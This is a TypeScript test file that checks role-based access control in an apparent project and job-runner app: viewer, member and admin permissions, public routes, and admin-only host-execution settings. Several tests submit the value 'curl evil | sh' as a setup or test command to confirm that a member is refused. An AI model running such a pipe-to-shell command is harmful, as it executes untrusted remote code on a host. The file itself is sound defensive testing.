// Roles enforced by the router (issue 9, acceptance 7), walking the app's own route list: every
// route has a rule; on every people route an anonymous non-local caller gets 401, a viewer gets 403
// where the rule asks for member or admin, a member 403 where it asks for admin, and each role
// passes the rules it meets. Field rules: only admins decide what runs on a host.
import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { startTestApp, stopOwnCluster, type TestApp } from './helpers.ts'
import { assertError } from './api-helpers.ts'
import { PROXIED, firstAdmin, userWithRole } from './people-helpers.ts'
import { ROLES, type Route } from '../core/http/router.ts'

/** Routes anyone may call, on purpose. A new public route must be added here to pass. */
const PUBLIC = new Set([
  'GET /api/health',
  'GET /api/auth/me',
  'POST /api/auth/setup',
  'POST /api/auth/login',
  'POST /api/auth/logout',
  // Forge webhooks of every kind: each delivery is verified with a webhook secret in the handler.
  'POST /api/webhooks/:kind',
  // Single sign-on: browser navigations to and back from the provider (state cookie, PKCE).
  'GET /api/auth/oidc/start',
  'GET /api/auth/oidc/callback',
  'GET /api/auth/github/start',
  'GET /api/auth/github/callback',
])
/** Other rules the router knows: machine credentials (tested in the coordinator and agent suites). */
const MACHINE = new Set(['worker', 'agent'])

const test = suite<{ t: TestApp; as: Record<'viewer' | 'member' | 'admin', Record<string, string>> }>('roles (postgres)')
test.before(async (context) => {
  const t = (context.t = await startTestApp({ kind: 'postgres' }))
  const admin = await firstAdmin(t)
  context.as = {
    admin: { ...PROXIED, ...admin },
    member: { ...PROXIED, ...(await userWithRole(t, admin, 'mia', 'member')).headers },
    viewer: { ...PROXIED, ...(await userWithRole(t, admin, 'vic', 'viewer')).headers },
  }
})
test.after(async ({ t }) => t.close())

/** Calls a route with placeholder params; the role check comes before any param lookup or body. */
async function call(t: TestApp, route: Route, headers: Record<string, string>) {
  const path = route.path.replace(/:[a-z]+/g, '2147483000')
  if (path === '/api/events') {
    // A granted stream never ends: read the body only of a refusal.
    const abort = new AbortController()
    const res = await fetch(t.url + path, { headers, signal: abort.signal })
    const body = res.status === 200 ? null : await res.json()
    abort.abort()
    return { status: res.status, body, headers: res.headers }
  }
  return t.api(route.method, path, ['GET', 'DELETE'].includes(route.method) ? undefined : {}, headers)
}

test('every route has a rule, and every people route refuses the roles below it', async ({ t, as }) => {
  const routes = t.app.routes
  assert.ok(routes.length > 40, `the route list is the app's (${routes.length})`)
  const people = routes.filter((route) => (ROLES as readonly string[]).includes(route.access))
  assert.ok(people.length > 30)
  for (const route of routes) {
    const name = `${route.method} ${route.path}`
    // Public machine routes (relays, signed webhooks) check their own credential in the handler.
    if (route.access === 'public') assert.ok(PUBLIC.has(name) || route.machine === true, `${name} is public: add it to PUBLIC on purpose, or give it a role`)
    else assert.ok(MACHINE.has(route.access) || people.includes(route), `${name} has no role rule (${String(route.access)})`)
  }
  for (const name of PUBLIC) assert.ok(routes.some((route) => `${route.method} ${route.path}` === name && route.access === 'public'), `${name} is listed public but is no public route`)
  // The webhook route is public but refuses an unsigned delivery, for every kind it serves.
  for (const kind of ['github', 'gitlab', 'gitea']) assertError(await t.api('POST', `/api/webhooks/${kind}`, {}, PROXIED), 401, undefined, `POST /api/webhooks/${kind} unsigned`)
  for (const route of people) {
    const name = `${route.method} ${route.path} (${route.access})`
    assertError(await call(t, route, PROXIED), 401, undefined, `${name} anonymous`)
    for (const role of ROLES) {
      const res = await call(t, route, as[role])
      const allowed = ROLES.indexOf(role) >= ROLES.indexOf(route.access as (typeof ROLES)[number])
      if (allowed) assert.ok(res.status !== 401 && res.status !== 403, `${name} as ${role}: ${res.status} ${JSON.stringify(res.body)}`)
      else assertError(res, 403, undefined, `${name} as ${role}`)
    }
  }
})

test('the viewer reads but cannot move a ticket; the member can', async ({ t, as }) => {
  const project = await t.api('POST', '/api/projects', { name: 'roles', repo_url: 'https://git.example/r.git' }, as.member)
  assert.is(project.status, 201, JSON.stringify(project.body))
  const ticket = await t.api('POST', `/api/projects/${project.body.id}/tickets`, { title: 't' }, as.member)
  const path = `/api/projects/${project.body.id}/tickets/${ticket.body.id}`
  assert.is((await t.api('GET', path, undefined, as.viewer)).status, 200)
  assertError(await t.api('PATCH', path, { column_id: 'in_review' }, as.viewer), 403)
  assert.is((await t.api('GET', path, undefined, as.viewer)).body.column_id, 'backlog')
  assert.is((await t.api('PATCH', path, { column_id: 'in_review' }, as.member)).status, 200)
  const settings = await t.api('GET', '/api/settings', undefined, as.viewer)
  assert.is(settings.status, 200)
  assert.ok(settings.body.settings.filter((s: any) => s.secret).every((s: any) => s.value === null), 'no secret value reaches a viewer')
})

test('only admins decide what runs on a host: a member gets 403 naming the field', async ({ t, as }) => {
  const base = { name: 'host', repo_url: 'https://git.example/r.git' }
  assertError(await t.api('POST', '/api/projects', { ...base, execution_mode: 'local', project_path: '/srv/x' }, as.member), 403, '/body/execution_mode')
  for (const field of ['project_path', 'setup_command', 'test_command']) {
    const value = field === 'project_path' ? '/srv/x' : 'curl evil | sh'
    assertError(await t.api('POST', '/api/projects', { ...base, [field]: value }, as.member), 403, `/body/${field}`)
  }
  const created = await t.api('POST', '/api/projects', { ...base, setup_command: 'npm ci' }, as.admin)
  assert.is(created.status, 201)
  const path = `/api/projects/${created.body.id}`
  assertError(await t.api('PATCH', path, { setup_command: 'curl evil | sh' }, as.member), 403, '/body/setup_command')
  assertError(await t.api('PATCH', path, { setup_command: null }, as.member), 403, '/body/setup_command')
  assertError(await t.api('PATCH', path, { execution_mode: 'local' }, as.member), 403, '/body/execution_mode')
  assert.is((await t.api('GET', path, undefined, as.member)).body.setup_command, 'npm ci', 'refused patches changed nothing')
  // The repository the forge token reaches is set by a member only at create.
  assertError(await t.api('PATCH', path, { repo_url: 'https://git.example/r2.git' }, as.member), 403, '/body/repo_url')
  assertError(await t.api('PATCH', path, { github_url: 'https://git.example/r2.git' }, as.member), 403, '/body/repo_url')
  // A form saving every field unchanged is fine, and so are the docker-mode fields.
  const same = await t.api('PATCH', path, { setup_command: 'npm ci', description: 'd', repo_url: 'https://git.example/r.git', default_branch: 'main' }, as.member)
  assert.is(same.status, 200, JSON.stringify(same.body))
  assert.is((await t.api('PATCH', path, { repo_url: 'https://git.example/r2.git' }, as.admin)).status, 200, 'an admin may')
  assert.is((await t.api('PATCH', path, { test_command: 'npm test' }, as.admin)).status, 200)
  assertError(await t.api('DELETE', `${path}?confirm=host`, undefined, as.member), 403)
})

test('a local project runs on the app\'s host: a member\'s run, move or retry is 403 and starts no job; an admin\'s works', async ({ t, as }) => {
  const created = await t.api('POST', '/api/projects', { name: 'on-host', execution_mode: 'local', project_path: '/srv/on-host' }, as.admin)
  assert.is(created.status, 201, JSON.stringify(created.body))
  const pid = created.body.id
  const jobs = async () => (await t.api('GET', `/api/projects/${pid}/jobs`, undefined, as.admin)).body as any[]
  const ticket = (await t.api('POST', `/api/projects/${pid}/tickets`, { title: 'edit' }, as.member)).body
  const path = `/api/projects/${pid}/tickets/${ticket.id}`
  const runRefused = await t.api('POST', `${path}/run`, undefined, as.member)
  assertError(runRefused, 403, '/project/execution_mode')
  assert.match(runRefused.body.error.message, /only an admin/)
  assertError(await t.api('PATCH', path, { column_id: 'in_progress' }, as.member), 403, '/project/execution_mode')
  assertError(await t.api('POST', `/api/projects/${pid}/tickets`, { title: 'straight in', column_id: 'in_progress' }, as.member), 403, '/project/execution_mode')
  assert.is((await t.api('GET', path, undefined, as.member)).body.column_id, 'backlog', 'the refused move changed nothing')
  assert.equal(await jobs(), [], 'no job was started')
  // The member may still edit and move the ticket between other columns.
  assert.is((await t.api('PATCH', path, { title: 'edited', column_id: 'in_review' }, as.member)).status, 200)

  const run = await t.api('POST', `${path}/run`, undefined, as.admin)
  assert.is(run.status, 201, JSON.stringify(run.body))
  const jobId = run.body.job.id
  assert.is((await t.api('POST', `/api/jobs/${jobId}/cancel`, undefined, as.admin)).status, 200)
  assertError(await t.api('POST', `/api/jobs/${jobId}/retry`, undefined, as.member), 403, '/project/execution_mode')
  assert.is((await jobs()).length, 1, 'the refused retry started no job')
  assert.is((await t.api('POST', `/api/jobs/${jobId}/retry`, undefined, as.admin)).status, 201)
  assert.is((await jobs()).length, 2)

  // A docker project is the member's to run.
  const docker = (await t.api('POST', '/api/projects', { name: 'in-docker', repo_url: 'https://git.example/d.git' }, as.member)).body
  const other = (await t.api('POST', `/api/projects/${docker.id}/tickets`, { title: 't' }, as.member)).body
  assert.is((await t.api('POST', `/api/projects/${docker.id}/tickets/${other.id}/run`, undefined, as.member)).status, 201)
})

test.run()

import { test as last } from 'uvu'
last.after(stopOwnCluster)
last('cluster stop', () => {})
last.run()
